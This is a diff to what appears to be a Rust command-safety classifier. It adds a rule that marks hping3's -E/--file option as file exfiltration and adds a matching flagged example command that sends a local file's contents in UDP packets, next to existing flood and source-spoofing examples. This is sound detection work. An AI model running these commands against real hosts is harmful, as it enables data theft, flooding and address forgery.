@@ -432,8 +432,11 @@ pub const SYSADMIN: &[Program] = &[
             sub(&["-a"], Destructive, Medium, "forges the packets' source address"),
             sub(&["-a*"], Destructive, Medium, "forges the packets' source address"),
             sub(&["--spoof"], Destructive, Medium, "forges the packets' source address"),
+            // `-E FILE`/`--file FILE` fills the packets' data from a file
+            // (GTFOBins hping3 file upload; lcmdi, session 48).
+            sub(&["-E|--file"], Exfiltration, Medium, "sends a file's contents in its packets"),
         ],
-        flagged: &["hping3 -S --flood -p 80 example.com", "hping3 --rand-source -S example.com", "hping3 -I eth0 -a192.168.10.99 -S 192.168.10.33 -p 80 -i u1000"],
+        flagged: &["hping3 -S --flood -p 80 example.com", "hping3 --rand-source -S example.com", "hping3 192.168.10.44 -p53 -d 100 --udp --sign x --file ./test.cmd", "hping3 -I eth0 -a192.168.10.99 -S 192.168.10.33 -p 80 -i u1000"],
         clean: &["hping3 -S -p 80 -c 3 example.com"],
         ..P
     },
